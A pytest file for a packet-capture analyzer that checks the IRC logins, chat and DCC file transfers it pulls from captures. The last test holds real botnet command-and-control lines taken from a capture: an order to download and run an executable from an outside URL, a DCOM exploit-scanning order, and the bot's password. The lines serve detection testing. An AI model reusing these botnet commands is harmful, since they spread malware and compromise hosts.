# SPDX-License-Identifier: Apache-2.0
"""IRC in real captures: who said what, who logged in, and the file that was offered."""
import json
import os
import subprocess

import pytest

from fishbowl import FISHBOWL, PCAPS, ROOT, SHARED

RULES = os.path.join(ROOT, 'data', 'rules', 'outbound.rules')


def replay(tmp_path, name):
    """The records of a capture; wrong checksums are those of a capturing host that leaves them to its NIC."""
    capture = os.path.join(PCAPS, name)
    if not os.path.exists(capture):
        pytest.skip('no captures in ../shared')
    subprocess.run([FISHBOWL, 'replay', '--ignore-checksums', '--rules', RULES, '-o', tmp_path / 'out', capture],
                   capture_output=True, check=True, timeout=120)
    with open(tmp_path / 'out' / 'eve.json', encoding='utf-8') as file:
        return [json.loads(line) for line in file]


def bodies(records, kind):
    return [record[kind] for record in records if record['event_type'] == kind]


def said(kind, nick, **more):
    return {'kind': kind, 'nick': nick, **more}


def test_basic(tmp_path):
    records = replay(tmp_path, 'irc-basic.pcap')
    assert bodies(records, 'login') == [{'user': 'brotest', 'result': 'success'}]
    assert [chat for chat in bodies(records, 'chat') if chat['kind'] not in ('notice', 'mode')] == [
        said('join', 'brotest', channel='#brotest'),
        said('message', 'brotest', channel='#brotest', text='test'),
        said('quit', 'brotest', text='quitting')]


def test_commands(tmp_path):
    records = replay(tmp_path, 'irc-commands.pcap')
    logins = [(login.get('method'), login['user'], login['password'], login['result']) for login in bodies(records, 'login')]
    assert logins == [(None, 'tim', 'test', 'success'), ('oper', 'tim', 'fail', 'failure'), ('oper', 'tim', 'test', 'success'),
                      (None, 'tim', 'test', 'failure'), (None, 'tim_', 'test', 'success')]
    chat = bodies(records, 'chat')
    for line in (said('topic', 'tim', channel='#testing', text='test'), said('nick', 'tim_', to='!!!!'),
                 said('kick', 'tim', channel='#testing', to='tim_'), said('part', 'tim_', channel='#testing'),
                 said('mode', 'tim', to='tim', text='+i')):
        assert line in chat


def test_any_port(tmp_path):
    records = replay(tmp_path, 'irc-highport.pcap')
    assert bodies(records, 'login') == [{'user': 'molochtest', 'result': 'success'}]
    assert said('join', 'molochtest', channel='#moloch-fpc', text='-') in bodies(records, 'chat')


def test_file(tmp_path):
    records = replay(tmp_path, 'irc-dcc-send.pcapng')
    heard = [(chat['nick'], chat['text']) for chat in bodies(records, 'chat')
             if chat['kind'] == 'message' and chat.get('channel') == '#testing']
    assert heard == [('tim2', "hi, i'm chatting for some packets"), ('tim2', 'more packets'), ('tim2', 'more packets!'),
                     ('tim2', 'even more packets!'), ('tim1', 'do we still need more packets?'), ('tim1', 'maybe we do')]
    [file] = [record for record in records if record['event_type'] == 'fileinfo']
    assert (file['src_ip'], file['dest_ip'], file['app_proto']) == ('10.0.0.7', '10.0.0.22', 'dcc')
    assert (file['fileinfo']['filename'], file['fileinfo']['size'], file['fileinfo']['state']) == ('ssh.trace', 1320211, 'CLOSED')
    assert bodies(records, 'dcc') == [{'filename': 'ssh.trace', 'command': 'SEND'}]


def test_a_bot(tmp_path):
    """Its orders are the channels' topics; what it did it says in the channel."""
    records = replay(tmp_path, os.path.join(SHARED, 'data', 'suricata-verify', 'tests', 'irc', 'input.pcap'))
    bot, server = 'damn-0262937047', 'hunt3d.devilz.net'
    assert bodies(records, 'login') == [{'user': bot, 'password': 'l0m3za', 'result': 'success'}]
    chat = bodies(records, 'chat')
    for line in (said('join', bot, channel='#sl0w3r', text='l03dx'),
                 said('topic', server, channel='#s01', text='.download http://www.wanees.net/bbnz.exe bbnz.exe 1'),
                 said('topic', server, channel='#sl0w3r', text='.advscan dcom135 200 3 0 -r -s'),
                 said('message', bot, channel='#s03', text='[DOWNLOAD]: Opened: ysbinstall_1000489_3.exe.')):
        assert line in chat
